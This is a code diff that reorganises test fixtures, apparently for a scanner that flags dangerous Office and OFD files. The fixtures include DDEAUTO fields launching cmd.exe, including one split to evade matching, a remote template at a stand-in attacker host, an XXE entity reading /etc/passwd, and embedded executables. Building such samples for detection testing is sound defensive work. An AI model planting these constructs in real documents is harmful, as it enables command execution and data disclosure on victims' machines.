@@ -113,8 +113,11 @@ def _archives() -> dict[str, bytes]:
 
 
 def _office() -> dict[str, bytes]:
+    return _macros() | _dde() | _reaching_out() | _embedded()
+
+
+def _macros() -> dict[str, bytes]:
     vba = {"VBA": {"dir": b"x", "Module1": b"Attribute"}}
-    remote = "https://evil.example/t.dotm"
     macros = content_types(documents.WORD_MACROS, "word/document.xml")
     return {
         "宏.docm": docx(main=documents.WORD_MACROS),
@@ -125,6 +128,13 @@ def _office() -> dict[str, bytes]:
         "旧宏.doc": documents.doc(storages={"Macros": {"PROJECT": b"x"}}),
         "旧宏.xls": documents.xls(storages={"_VBA_PROJECT_CUR": {"PROJECT": b"x"}}),
         "旧宏表.xls": documents.xls(record(0x85, bytes(4) + b"\x01\x01\x06\0Macro1")),
+        "宏在内.ofd": documents.ofd({"Doc_0/Attachs/a.docx": docx_with({"word/vbaProject.bin": b"x"})}),
+        "宏在内.zip": zipped({"a.docx": docx_with({"word/vbaProject.bin": b"x"})}),
+    }  # fmt: skip
+
+
+def _dde() -> dict[str, bytes]:
+    return {
         "DDE.docx": docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
         "拆开的DDE.docx": docx(field(" D", "DE", "AUTO ", 'cmd "/k calc"')),
         "简单域DDE.docx": docx('<w:p><w:fldSimple w:instr=\'DDE "excel" "x"\'/></w:p>'),
@@ -136,6 +146,13 @@ def _office() -> dict[str, bytes]:
         "旧DDE.doc": documents.doc(text=b"\x13 DDEAUTO cmd \x14"),
         "旧宽DDE.doc": documents.doc(text="\x13 DDEAUTO cmd \x14".encode("utf-16-le")),
         "旧DDE.xls": documents.xls(record(0x1AE, struct.pack("<HH", 1, 9) + b"\0cmd\x03/c calc")),
+    }  # fmt: skip
+
+
+def _reaching_out() -> dict[str, bytes]:
+    """What fetches something from elsewhere, or reads what is here."""
+    remote = "https://evil.example/t.dotm"
+    return {
         "远程模板.docx": docx(settings_links=(relation("attachedTemplate", remote, external=True),)),
         "远程模板转义.docx": docx(settings_links=(relation("attachedTemplate", "&#104;ttps://evil.example/t", external=True),)),
         "内网模板.docx": docx(settings_links=(relation("attachedTemplate", "\\\\10.0.0.1\\s\\t.dotm", external=True),)),
@@ -147,6 +164,13 @@ def _office() -> dict[str, bytes]:
         "夹网页.docx": docx_with({"word/afchunk.mht": b"MIME-Version: 1.0"}),
         "实体.docx": docx(prefix='<!DOCTYPE x [<!ENTITY a "aaaa">]>'),
         "外部实体.xlsx": xlsx(parts={"xl/sharedStrings.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
+        "关系里有实体.docx": docx_with({"word/_rels/document.xml.rels": "<!DOCTYPE x>" + relations()}),
+    }  # fmt: skip
+
+
+def _embedded() -> dict[str, bytes]:
+    """Programs and controls within, what hides its content, and what is no such document."""
+    return {
         "控件.docx": docx_with({"word/activeX/activeX1.bin": b"x"}),
         "嵌程序.docx": docx_with({"word/embeddings/oleObject1.bin": documents.compound({"\x01Ole10Native": MZ})}),
         "嵌程序.doc": documents.doc(storages={"ObjectPool": {"\x01Ole10Native": MZ}}),
@@ -160,9 +184,6 @@ def _office() -> dict[str, bytes]:
         "损坏.docx": documents.real_docx()[:-40],
         "程序.ofd": documents.ofd({"Doc_0/Attachs/a.exe": MZ}),
         "脚本.ofd": documents.ofd({"Doc_0/Attachs/a.js": b"alert(1)"}),
-        "宏在内.ofd": documents.ofd({"Doc_0/Attachs/a.docx": docx_with({"word/vbaProject.bin": b"x"})}),
-        "宏在内.zip": zipped({"a.docx": docx_with({"word/vbaProject.bin": b"x"})}),
-        "关系里有实体.docx": docx_with({"word/_rels/document.xml.rels": "<!DOCTYPE x>" + relations()}),
     }  # fmt: skip
 
 
